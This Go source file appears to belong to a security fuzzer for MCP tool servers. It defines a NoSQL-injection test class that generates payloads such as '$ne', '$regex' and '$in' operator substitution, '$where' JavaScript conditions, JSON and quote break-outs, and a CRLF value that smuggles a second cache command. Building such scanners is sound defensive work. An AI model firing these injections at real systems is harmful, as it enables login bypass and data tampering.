package attack

import (
	"github.com/mcpsf/mcpsf"
)

func nosqlInjection() Class {
	return Class{
		ID:    "nosql-injection",
		Title: "A value becomes an operator of a query for documents",
		Yield: func(p Place) int {
			if p.structured() {
				// A filter is a query by design; running code is the weakness.
				return kinds{"json": 30, "query": 30, "unknown": 15}[p.Kind]
			}
			return kinds{"id": 40, "name": 40, "email": 40, "query": 35, "json": 35, "unknown": 20, "text": 15, "code": 10, "number": 20, "date": 10}.of(p)
		},
		Payloads: nosqlPayloads,
		Balanced: 4,
	}
}

func nosqlPayloads(w *World, p Place) []Payload {
	var all []Payload
	word := func() string { return w.Word("nosql", len(all)) }
	add := func(value any, marker, why string) {
		all = append(all, Payload{Value: value, Sign: mcpsf.SignQuery, Marker: marker, Why: why})
	}
	m := word()
	if !p.structured() {
		add(map[string]any{"$ne": m}, m, "operator in place of a value")
		m = word()
	}
	add(map[string]any{"$where": m + " || true"}, m, "code in a condition")
	if p.structured() {
		return all
	}
	m = word()
	add(`","$where":"`+m+`","x":"`, m, "second member in a text of JSON")
	m = word()
	add("'||"+m+"||'", m, "code in quotes")
	m = word()
	add(fill(`{"$where":"§ || true"}`, "", m), m, "code in a condition, as text")
	m = word()
	add(map[string]any{"$gt": "", "$regex": m}, m, "pattern in place of a value")
	m = word()
	add(map[string]any{"$in": []any{m, nil}}, m, "list in place of a value")
	m = word()
	add("\";return "+m+";var x=\"", m, "code in double quotes")
	m = word()
	add(fill("¤\r\nSET § 1\r\n", p.text(), m), m, "second command for a cache")
	return all
}
